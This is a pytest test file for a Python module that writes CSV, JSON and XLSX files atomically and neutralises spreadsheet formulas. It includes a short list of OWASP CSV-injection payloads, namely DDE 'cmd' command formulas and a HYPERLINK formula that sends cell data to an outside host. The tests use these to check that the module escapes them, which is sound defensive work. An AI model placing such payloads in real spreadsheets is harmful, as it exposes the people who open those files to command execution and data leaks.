"""Tests for cprstats.safeio: atomic writes, formula neutralising, deterministic output.

Reference values: the formula trigger characters (= + - @ tab, carriage return) and the
single-quote prefix come from the OWASP "CSV Injection" page
(https://owasp.org/www-community/attacks/CSV_Injection); the null character from OWASP ASVS
5.0 requirement 1.2.10 ("special characters (including '=', '+', '-', '@', '\\t' (tab), and
'\\0' (null character)) must be escaped with a single quote"). The payloads are the classic
examples of that attack (the DDE ``=cmd|' /C calc'!A0`` and HYPERLINK leaks) from the OWASP
page. The UTF-8 byte-order mark EF BB BF is from the Unicode Standard, section 23.8 ("Byte Order Mark"). The Excel sheet-name
rules (31 characters, no [ ] : * ? / \\) are Microsoft's ("Rename a worksheet", Excel help).
"""

from __future__ import annotations

import hashlib
import json
import os
import time
import zipfile

import numpy as np
import pandas as pd
import pytest

from cprstats import safeio
from cprstats.errors import CprstatsError, ParameterError

# OWASP CSV Injection page, "Attack" examples
OWASP_PAYLOADS = [
    "=HYPERLINK(\"http://contextis.co.uk?leak=\"&A1&A2,\"Error: please click for further information\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
]


# ------------------------------------------------------------------ atomic_path
def test_atomic_path_writes_on_success_and_creates_parent(tmp_path):
    target = tmp_path / "new" / "deeper" / "out.txt"
    with safeio.atomic_path(target) as tmp:
        assert tmp.parent == target.parent
        assert tmp.suffix == ".txt"
        assert not target.exists()  # nothing appears before the block ends
        tmp.write_text("complete")
    assert target.read_text() == "complete"
    assert sorted(p.name for p in target.parent.iterdir()) == ["out.txt"]


@pytest.mark.parametrize("exc", [RuntimeError("boom"), KeyboardInterrupt()])
def test_atomic_path_keeps_old_file_and_removes_temp_on_any_exception(tmp_path, exc):
    target = tmp_path / "out.csv"
    target.write_text("old contents")
    with pytest.raises(type(exc)):
        with safeio.atomic_path(target) as tmp:
            tmp.write_text("half a fi")
            raise exc
    assert target.read_text() == "old contents"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_atomic_path_no_file_when_interrupted_before_first_write(tmp_path):
    target = tmp_path / "never.csv"
    with pytest.raises(KeyboardInterrupt):
        with safeio.atomic_path(target):
            raise KeyboardInterrupt
    assert list(tmp_path.iterdir()) == []


def test_atomic_path_refuses_a_folder(tmp_path):
    with pytest.raises(ParameterError, match="is a folder"):
        with safeio.atomic_path(tmp_path):
            pass


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_atomic_path_keeps_mode_of_replaced_file(tmp_path):
    target = tmp_path / "private.csv"
    target.write_text("x")
    target.chmod(0o600)
    safeio.write_text("y", target)
    assert target.stat().st_mode & 0o777 == 0o600


def test_write_csv_interrupted_mid_write_leaves_old_file(tmp_path, monkeypatch):
    target = tmp_path / "coded.csv"
    safeio.write_csv(pd.DataFrame({"a": [1]}), target)
    before = target.read_bytes()

    def interrupted(self, path, **kw):
        with open(path, "w") as fh:
            fh.write("a\n1\n2")  # half written
        raise KeyboardInterrupt

    monkeypatch.setattr(pd.DataFrame, "to_csv", interrupted)
    with pytest.raises(KeyboardInterrupt):
        safeio.write_csv(pd.DataFrame({"a": range(1000)}), target)
    assert target.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["coded.csv"]


# ------------------------------------------------------------------ neutralising
@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_owasp_payloads_are_prefixed(payload):
    assert safeio.needs_neutralising(payload)
    out = safeio.neutralise_formulas(pd.DataFrame({"x": [payload]}))
    assert out["x"].iloc[0] == "'" + payload


@pytest.mark.parametrize("value", ["-3", "+44", "-1.5", "+.5", "-2e3", "3", "ok", "Ynys Môn", "", "a=b", "'=x"])
def test_harmless_text_is_unchanged(value):
    # plain numbers cannot carry a formula (module notes); text not starting with a trigger is safe
    assert not safeio.needs_neutralising(value)
    assert safeio.neutralise_formulas(pd.DataFrame({"x": [value]}))["x"].iloc[0] == value


def test_numbers_booleans_periods_and_missing_are_untouched():
    df = pd.DataFrame(
        {
            "n": [-3, 2],
            "f": [-0.25, np.nan],
            "i": pd.array([-1, None], dtype="Int64"),
            "b": pd.array([True, None], dtype="boolean"),
            "p": pd.period_range("2020-03", periods=2, freq="M"),
            "s": pd.array(["=1", None], dtype="string"),
        }
    )
    out = safeio.neutralise_formulas(df)
    pd.testing.assert_frame_equal(out.drop(columns="s"), df.drop(columns="s"))
    assert out["s"].iloc[0] == "'=1" and pd.isna(out["s"].iloc[1])
    assert df["s"].iloc[0] == "=1"  # the input is not modified


def test_categorical_and_column_names_are_neutralised():
    df = pd.DataFrame({"=bad": pd.Categorical(["@x", "y"]), "ok": pd.Categorical(["a", "b"])})
    out = safeio.neutralise_formulas(df)
    assert list(out.columns) == ["'=bad", "ok"]
    assert out["'=bad"].tolist() == ["'@x", "y"]
    assert isinstance(out["ok"].dtype, pd.CategoricalDtype)  # untouched when not needed


def test_neutralise_rejects_non_frames():
    with pytest.raises(ParameterError, match="df must be a pandas DataFrame"):
        safeio.neutralise_formulas([["=1"]])


def test_escape_html():
    assert safeio.escape_html("<b>O'Neil & co</b>") == "&lt;b&gt;O&#x27;Neil &amp; co&lt;/b&gt;"
    assert safeio.escape_html(None) == "" and safeio.escape_html(np.nan) == ""
    assert safeio.escape_html(3) == "3"


# ------------------------------------------------------------------ CSV
def test_write_csv_bytes_bom_lf_and_prefix(tmp_path):
    df = pd.DataFrame({"la": ["Ynys Môn", "=cmd|' /C calc'!A0"], "n": [-3, 4]})
    p = safeio.write_csv(df, tmp_path / "t.csv")
    raw = p.read_bytes()
    # EF BB BF: the UTF-8 byte-order mark (Unicode Standard §23.8); Môn is M C3 B4 n in UTF-8
    assert raw == b"\xef\xbb\xbfla,n\nYnys M\xc3\xb4n,-3\n'=cmd|' /C calc'!A0,4\n"


def test_write_csv_can_skip_neutralising_and_roundtrips(tmp_path):
    df = pd.DataFrame({"a": ["=x", "ŵ"], "b": [1.25, -2.0]})
    p = safeio.write_csv(df, tmp_path / "t.csv", neutralise=False)
    back = pd.read_csv(p, encoding="utf-8-sig")
    assert back["a"].tolist() == ["=x", "ŵ"] and back["b"].tolist() == [1.25, -2.0]


# ------------------------------------------------------------------ text / JSON
def test_write_json_is_deterministic_and_typed(tmp_path):
    obj = {"b": np.int64(2), "a": [np.float64(0.5), None], "c": "Ŵ", "d": pd.Period("2020-03", "M")}
    p = safeio.write_json(obj, tmp_path / "m.json")
    text = p.read_text(encoding="utf-8")
    assert text == '{\n  "a": [\n    0.5,\n    null\n  ],\n  "b": 2,\n  "c": "Ŵ",\n  "d": "2020-03"\n}\n'
    assert json.loads(text)["b"] == 2


@pytest.mark.parametrize("bad, fragment", [({"x": float("nan")}, "missing number"), ({"x": object()}, "object")])
def test_write_json_refuses_what_json_cannot_hold(tmp_path, bad, fragment):
    with pytest.raises(ParameterError, match=fragment):
        safeio.write_json(bad, tmp_path / "m.json")
    assert not (tmp_path / "m.json").exists()


def test_write_text_uses_lf_and_write_bytes(tmp_path):
    p = safeio.write_text("a\nb\n", tmp_path / "t.html")
    assert p.read_bytes() == b"a\nb\n"
    q = safeio.write_bytes(b"\x00\x01", tmp_path / "b.bin")
    assert q.read_bytes() == b"\x00\x01"
    with pytest.raises(ParameterError, match="text must be a str"):
        safeio.write_text(b"x", tmp_path / "x")


# ------------------------------------------------------------------ XLSX
def test_write_xlsx_never_stores_formulas(tmp_path):
    import openpyxl

    df = pd.DataFrame(
        {
            "text": OWASP_PAYLOADS[:5] + ["Ynys Môn", None],
            "n": [-3, 1, 2, 3, 4, 5, 6],
            "p": pd.period_range("2020-01", periods=7, freq="M"),
        }
    )
    p = safeio.write_xlsx({"Table 1": df}, tmp_path / "t.xlsx")
    with zipfile.ZipFile(p) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula element anywhere (ECMA-376 §18.3.1.40)
    ws = openpyxl.load_workbook(p)["Table 1"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("text", "n", "p")
    assert [r[0] for r in rows[1:]] == OWASP_PAYLOADS[:5] + ["Ynys Môn", None]
    assert rows[1][1] == -3 and rows[1][2] == "2020-01"
    assert ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert not ws["A7"].quotePrefix


def test_write_xlsx_is_byte_identical_across_runs(tmp_path):
    df = pd.DataFrame({"a": [1, 2], "b": ["x", "y"]})
    p = safeio.write_xlsx({"a": df, "b": df}, tmp_path / "t.xlsx")
    first = hashlib.sha256(p.read_bytes()).hexdigest()
    time.sleep(1.1)  # the zip timestamps have a 2 s resolution; core.xml has 1 s
    p = safeio.write_xlsx({"a": df, "b": df}, tmp_path / "t.xlsx")
    assert hashlib.sha256(p.read_bytes()).hexdigest() == first


@pytest.mark.parametrize("name", ["a" * 32, "a/b", "x[1]", "", "'q'"])
def test_write_xlsx_sheet_names_follow_excel_rules(tmp_path, name):
    with pytest.raises(ParameterError, match="sheet name"):
        safeio.write_xlsx({name: pd.DataFrame({"a": [1]})}, tmp_path / "t.xlsx")
    assert not (tmp_path / "t.xlsx").exists()


def test_write_xlsx_strips_control_characters(tmp_path):
    import openpyxl

    p = safeio.write_xlsx({"s": pd.DataFrame({"a": ["bell\x07here"]})}, tmp_path / "t.xlsx")
    assert openpyxl.load_workbook(p)["s"]["A2"].value == "bell\ufffdhere"


def test_save_workbook_requires_xlsx(tmp_path):
    from openpyxl import Workbook

    with pytest.raises(ParameterError, match=r"must end in \.xlsx"):
        safeio.save_workbook(Workbook(), tmp_path / "t.csv")


# ------------------------------------------------------------------ folders
def test_ensure_new_folder(tmp_path):
    out = safeio.ensure_new_folder(tmp_path / "runs" / "MWW")
    assert out.is_dir()
    assert safeio.ensure_new_folder(out) == out  # empty: fine
    (out / "table.csv").write_text("x")
    with pytest.raises(ParameterError, match=r"already holds 1 file; choose a new folder, or pass --force"):
        safeio.ensure_new_folder(out)
    assert safeio.ensure_new_folder(out, force=True) == out
    assert (out / "table.csv").read_text() == "x"  # force never deletes
    with pytest.raises(ParameterError, match="is a file"):
        safeio.ensure_new_folder(out / "table.csv")


def test_permission_error_on_replace_is_explained(tmp_path, monkeypatch):
    def locked(src, dst):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(safeio.os, "replace", locked)
    with pytest.raises(CprstatsError, match="open in Excel"):
        safeio.write_text("x", tmp_path / "t.txt")
    assert list(tmp_path.iterdir()) == []
